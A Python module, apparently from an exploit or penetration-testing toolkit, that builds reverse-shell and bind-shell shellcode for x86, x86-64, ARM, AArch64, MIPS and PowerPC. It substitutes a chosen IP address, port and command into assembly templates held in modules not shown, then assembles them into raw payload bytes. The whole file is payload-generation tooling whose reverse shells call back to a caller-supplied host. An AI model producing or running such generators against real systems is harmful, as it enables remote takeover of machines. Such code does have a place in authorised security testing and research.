# SPDX-License-Identifier: GPL-2.0-or-later
"""Shellcode of our own, after the classic designs, assembled by nasm and GNU as: source texts with places for values."""
import os, shutil, struct, subprocess, tempfile

import designs_risc, designs_x86

GNU = {'arm': 'arm-linux-gnueabi', 'aarch64': 'aarch64-linux-gnu', 'mips': 'mips-linux-gnu', 'mipsel': 'mipsel-linux-gnu',
       'powerpc': 'powerpc-linux-gnu'}


def missing():
    """Assemblers that are not here, by language."""
    absent = {l: f'{p}-as is not installed' for l, p in GNU.items() if not shutil.which(p + '-as')}
    if not shutil.which('nasm'):
        absent.update({l: 'nasm is not installed' for l in ('x86', 'x86-64')})
    return absent


def assemble(language, source):
    with tempfile.TemporaryDirectory() as folder:
        text, code, raw = (os.path.join(folder, n) for n in ('a.s', 'a.o', 'a.bin'))
        with open(text, 'w') as file:
            file.write(source)
        if language in ('x86', 'x86-64'):
            subprocess.run(['nasm', '-f', 'bin', '-o', raw, text], check=True)
        else:
            tool = GNU[language]
            subprocess.run([tool + '-as', '-o', code, text], check=True)
            subprocess.run([tool + '-objcopy', '-O', 'binary', '-j', '.text', code, raw], check=True)
        with open(raw, 'rb') as file:
            return file.read()


def word(data, big=False):
    return int.from_bytes(data, 'big' if big else 'little')


def values(address, port, command):
    """What the texts' places mean: the address as bytes stand in memory, and so on."""
    packed = bytes(int(x) for x in address.split('.'))
    return {
        'IP': hex(word(packed)), 'IP_BIG': hex(word(packed, True)), 'PORT': str(port),
        'PORT_NET': hex(word(struct.pack('>H', port))), 'PORT_IN': hex(word(b'\x02\0' + struct.pack('>H', port))),
        'PORT_IN_BIG': hex(word(b'\0\x02' + struct.pack('>H', port), True)), 'COMMAND': command,
        'IP0': str(packed[0]), 'IP1': str(packed[1]), 'IP2': str(packed[2]), 'IP3': str(packed[3]),
    }


def others():
    """The designs of processors whose text hangs on the byte order."""
    for language in ('mips', 'mipsel'):
        big = language == 'mips'
        there = '.word {PORT_IN_BIG}, {IP_BIG}, 0, 0' if big else '.word {PORT_IN}, {IP}, 0, 0'
        here = '.word {PORT_IN_BIG}, 0, 0, 0' if big else '.word {PORT_IN}, 0, 0, 0'
        for name, kind, calls, where in (('reverse', 'connect', designs_risc.CONNECT_MIPS, there), ('bind', 'listen', designs_risc.LISTEN_MIPS, here),
                                         ('reverse, unaligned', 'connect', designs_risc.CONNECT_UNALIGNED, there)):
            yield name, language, kind, designs_risc.MIPS.replace('{CALLS}', calls).replace('{WHERE}', where).replace('{A}', '2') \
                .replace('{B}', '2')  # SOCK_STREAM is 2 on MIPS
    for name, kind, number, more, where in (
            ('reverse', 'connect', '328', '', '.long {PORT_IN_BIG}, {IP_BIG}, 0, 0'),
            ('bind', 'listen', '327', designs_risc.LISTEN_POWERPC, '.long {PORT_IN_BIG}, 0, 0, 0')):
        yield name, 'powerpc', kind, designs_risc.POWERPC.replace('{NUMBER}', number).replace('{MORE}', more).replace('{WHERE}', where)


def build(design, address, port, command):
    name, language, kind, source = design
    given = values(address, port, command)
    big = language == 'mips'
    packed = bytes(int(x) for x in address.split('.'))
    given['PORT_NET_MIPS'] = str(port if big else word(struct.pack('>H', port)))
    whole = word(packed, big)
    given['IP_HIGH'], given['IP_LOW'] = hex(whole >> 16), hex(whole & 0xffff)
    for key, value in given.items():
        source = source.replace('{' + key + '}', value)
    return assemble(language, source.replace('{{', '{').replace('}}', '}'))


def all_designs():
    return designs_x86.DESIGNS + designs_risc.DESIGNS + list(others())
